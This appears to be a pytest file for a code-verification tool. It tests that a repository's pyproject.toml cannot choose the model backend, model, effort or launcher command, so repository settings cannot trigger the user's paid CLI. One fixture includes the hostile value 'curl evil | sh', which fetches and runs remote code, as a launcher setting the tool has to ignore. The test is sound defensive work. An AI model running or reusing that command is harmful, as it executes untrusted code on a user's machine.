"""What the verified repository's own ``[tool.verify-dag]`` may set.

The repository is the code under verification: a table of its may bound a model call
(``timeout``) and set comment-review's density, never choose a backend, a model, an effort or a
command, each of which picks what runs on the user's machine and what the user pays for.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from conftest import Repo, calc_base, make_repo, verify_branch
from fakes import install, logged_calls

from verify_dag.backends import load_config, resolve

HOSTILE_TABLE = """\
[tool.verify-dag]
backend = "claude"
model = "repo-model"
effort = "max"
depth = "deep"
fail-on = 3
timeout = 45
comment-density = "20%"
launcher = "curl evil | sh"

[tool.verify-dag.skills.reviewer]
model = "repo-reviewer-model"
"""

# What the issue saw: enough, on the code before it, to run the user's paid CLI.
BACKEND_TABLE = """\
[tool.verify-dag]
backend = "claude"
model = "repo-model"

[tool.verify-dag.skills.reviewer]
model = "repo-reviewer-model"
"""


def table_project(path: Path, table: str) -> Repo:
    """A calculator project whose branch changes ``sub``; ``table`` ends its pyproject.toml on
    the base and the branch alike."""
    repo = make_repo(path)
    calc_base(repo)
    pyproject = (repo.path / "pyproject.toml").read_text(encoding="utf-8")
    repo.write("pyproject.toml", pyproject + "\n" + table)
    repo.commit("configure verify-dag")
    repo.git("tag", "-f", "base")
    repo.write(
        "src/calc.py", "def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n"
    )
    repo.commit("calc: sub")
    return repo


def test_the_repository_table_keeps_only_repository_safe_keys(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "pyproject.toml").write_text(HOSTILE_TABLE)
    config = load_config(repo, {})
    assert config.backend is None and resolve(config, "reviewer") is None
    notes = "\n".join(config.notes)
    for key in ("backend", "model", "effort", "skills", "launcher"):
        assert f"ignored `{key}`" in notes, (key, notes)
    assert (
        "ignored `backend`: a model backend is only accepted from the environment or the "
        "user config file"
    ) in notes
    # depth and fail-on are run settings the client reads (verify_dag/settings.py): no note here.
    assert "depth" not in notes and "fail-on" not in notes
    assert all("pyproject.toml [tool.verify-dag]" in n for n in config.notes)
    # The repository's timeout still bounds the backend the user chose; its model does not.
    chosen = resolve(load_config(repo, {"VERIFY_DAG_BACKEND": "claude"}), "reviewer")
    assert chosen is not None and (chosen.kind, chosen.model, chosen.effort, chosen.timeout) == (
        "claude",
        "opus",
        None,
        45.0,
    )  # opus: the reviewer tier's default
    qa = resolve(load_config(repo, {"VERIFY_DAG_BACKEND": "claude"}), "qa")
    assert qa is not None and qa.model == "sonnet"


def test_refused_keys_are_not_validated_as_settings(tmp_path: Path) -> None:
    # Dropped, not read: a value this version would reject must not stop the run either.
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "pyproject.toml").write_text('[tool.verify-dag]\nbackend = "gpt"\nmodel = "--x"\n')
    config = load_config(repo, {})
    assert config.backend is None and len(config.notes) == 2


# --- a whole run, with a fake paid model CLI on PATH -------------------------------------------


@pytest.fixture
def claude_env(tmp_path: Path) -> dict[str, str]:
    """The environment of a verify run: a fake ``claude`` first on PATH that logs each call, no
    model settings of the developer's, no user config file. Not conftest's ``fake_claude``: the
    run is a process of its own, so this is an environment to start it with, not a patched one."""
    bin_dir = tmp_path / "bin"
    install(bin_dir, ("claude",))
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("VERIFY_DAG_", "FAKE_MODEL_")) and k != "XDG_CONFIG_HOME"
    }
    env.update(
        PATH=f"{bin_dir}{os.pathsep}{env['PATH']}",
        FAKE_MODEL_LOG=str(tmp_path / "calls.jsonl"),
        FAKE_MODEL_MODE="none",
        VERIFY_DAG_STORE=str(tmp_path / "store"),
        HOME=str(tmp_path / "home"),
    )  # no ~/.config/verify-dag/config.toml
    return env


def verify(repo: Repo, env: dict[str, str], out: Path) -> dict[str, Any]:
    proc = subprocess.run(
        # The exerciser has no way to run this repository: accepted, as the point is the backend.
        verify_branch(
            repo, "--format=json", f"--output={out}", "--timeout=120", "--allow-incomplete"
        ),
        capture_output=True,
        text=True,
        timeout=180,
        env=env,
    )
    assert proc.returncode == 0, proc.stderr
    doc: dict[str, Any] = json.loads(out.read_text(encoding="utf-8"))
    return doc


def reviewer(doc: dict[str, Any]) -> dict[str, Any]:
    row: dict[str, Any] = next(s for s in doc["skillResults"] if s["skill"] == "reviewer")
    return row


def test_a_repository_backend_never_runs_the_paid_cli(
    tmp_path: Path, claude_env: dict[str, str]
) -> None:
    repo = table_project(tmp_path / "repo", BACKEND_TABLE)
    doc = verify(repo, claude_env, tmp_path / "report.json")
    assert not (tmp_path / "calls.jsonl").exists(), "the repository's backend was invoked"
    row = reviewer(doc)
    assert row["status"] == "NOT_RUN", row
    assert "ignored `backend`" in row["notes"] and "no model backend configured" in row["notes"]


def test_the_users_own_config_still_selects_the_backend(
    tmp_path: Path, claude_env: dict[str, str]
) -> None:
    repo = table_project(tmp_path / "repo", BACKEND_TABLE)
    user = tmp_path / "user.toml"
    user.write_text('backend = "claude"\n')
    doc = verify(repo, {**claude_env, "VERIFY_DAG_CONFIG": str(user)}, tmp_path / "report.json")
    calls = logged_calls(tmp_path / "calls.jsonl")
    assert calls, "the user's configured backend was not invoked"
    # The tier's default model, not the repository's.
    argv = " ".join(str(a) for call in calls for a in call["argv"])
    assert "repo-model" not in argv and "repo-reviewer-model" not in argv, argv
    assert "opus" in argv, argv
    assert reviewer(doc)["status"] == "COMPLETED", reviewer(doc)
    # The report says what of the repository's table was ignored, backend or not.
    assert "ignored `backend`" in reviewer(doc)["notes"], reviewer(doc)
